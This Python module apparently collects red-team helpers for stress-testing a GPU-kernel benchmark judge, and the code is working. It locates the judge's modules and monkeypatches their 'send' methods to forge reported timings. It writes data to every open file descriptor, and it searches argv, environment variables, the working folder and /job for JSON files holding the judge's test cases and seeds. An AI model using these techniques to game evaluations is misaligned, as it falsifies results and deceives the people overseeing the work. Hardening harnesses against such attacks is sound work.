"""What a hostile kernel can reach from inside its own process, whatever harness runs it."""

import json
import os
import stat
import sys
import threading
from pathlib import Path

import torch

# Module names a judge is likely to live in, besides the program that was started (__main__).
JUDGE_PACKAGES = {"harness", "judge", "bench", "benchmark", "evaluator", "grader"}
_HERE = str(Path(__file__).resolve().parent)
_PATTERNS = ("*.json", "*.jsonl", "*/*.json", "*/*.jsonl")


def judge_modules():
    """Every loaded module that is neither the standard library, an installed package, nor this solution."""
    found = []
    for name, module in list(sys.modules.items()):
        path = str(getattr(module, "__file__", None) or "")
        ours = path.startswith(_HERE)
        installed = "site-packages" in path or "dist-packages" in path or path.startswith(sys.base_prefix + "/lib")
        if name == "__main__" or name.split(".")[0] in JUDGE_PACKAGES or (path and not installed and not ours):
            found.append(module)
    return found


def patch_named(names, make_replacement):
    """Replace every function or method with one of `names` in the judge's modules and their classes."""
    patched = []
    for module in judge_modules():
        owners = [module] + [value for value in vars(module).values() if isinstance(value, type)]
        for owner in owners:
            for name in names:
                original = vars(owner).get(name)
                if callable(original) and not getattr(original, "hostile", False):
                    replacement = make_replacement(original)
                    replacement.hostile = True
                    try:
                        setattr(owner, name, replacement)
                    except (AttributeError, TypeError):
                        continue
                    patched.append(f"{getattr(owner, '__name__', owner)}.{name}")
    return patched


def rewrite_reported_times(rewrite):
    """Patch every reply writer in the judge's modules so that the per-call times of each reply pass through
    `rewrite(times) -> times` on their way out: the kernel's own figures, forged as its process could."""

    def make(original):
        def send(self, message, *args, **kwargs):
            results = message.get("results") if isinstance(message, dict) else None
            timed = [r for r in results or [] if isinstance(r, dict) and isinstance(r.get("ns"), (int, float))]
            if timed:
                for result, forged in zip(timed, rewrite([r["ns"] for r in timed]), strict=True):
                    result["ns"] = forged
            return original(self, message, *args, **kwargs)

        return send

    return patch_named(("send",), make)


def rmsnorm_into(hidden_states, weight, eps, output):
    """The honest RMSNorm the timing attacks wrap: correct outputs, written into `output`."""
    variance = hidden_states.square().mean(dim=-1, keepdim=True)
    torch.mul(hidden_states, torch.rsqrt(variance + eps), out=output)
    output.mul_(weight)


def open_descriptors():
    """Every open descriptor but stdin and folders: pipes, sockets, files, wherever a judge may listen."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        descriptor = int(name)
        try:
            if descriptor == 0 or stat.S_ISDIR(os.fstat(descriptor).st_mode):
                continue
        except OSError:
            continue
        found.append(descriptor)
    return found


def write_everywhere(data, seconds=30.0):
    """Write `data` to every open descriptor at once (a reader that never reads blocks one thread only)."""

    def write_all(descriptor):
        view = memoryview(data)
        try:
            while view:
                view = view[os.write(descriptor, view) :]
        except OSError:
            pass

    writers = [threading.Thread(target=write_all, args=(fd,), daemon=True) for fd in open_descriptors()]
    for writer in writers:
        writer.start()
    for writer in writers:
        writer.join(seconds)


def readable_documents(limit_bytes=64 * 2**20):
    """Every JSON or JSONL document reachable from argv, the environment, the working folder and /job."""
    places = [*sys.argv, *os.environ.values(), os.getcwd(), "/job"]
    files = set()
    for place in places:
        path = Path(place)
        try:
            if path.is_file():
                files.add(path)
            elif path.is_dir() and path != Path("/"):
                files.update(found for pattern in _PATTERNS for found in path.glob(pattern))
        except OSError:
            continue
    documents = []
    for path in files:
        try:
            if path.stat().st_size > limit_bytes:
                continue
            text = path.read_text(errors="replace")
        except OSError:
            continue
        for chunk in [text, *text.splitlines()]:
            try:
                documents.append(json.loads(chunk))
            except ValueError:
                continue
    return documents


def cases():
    """Every dict with a uuid found in those documents (the judge's cases, with their seeds if it wrote them)."""
    found = {}

    def walk(value):
        if isinstance(value, dict):
            if isinstance(value.get("uuid"), str):
                found.setdefault(value["uuid"], value)
                if "seed" in value:
                    found[value["uuid"]] = value
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    for document in readable_documents():
        walk(document)
    return list(found.values())
